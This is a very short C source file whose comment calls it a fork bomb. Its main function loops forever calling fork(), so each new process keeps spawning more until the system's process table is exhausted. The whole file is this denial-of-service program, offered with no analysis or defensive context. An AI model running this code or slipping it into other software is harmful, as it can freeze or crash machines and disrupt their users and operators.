// Every process of it makes two more: fork_bomb MARKER.
#include <unistd.h>

int main() {
    while (true) {
        if (fork() < 0) pause();
    }
}
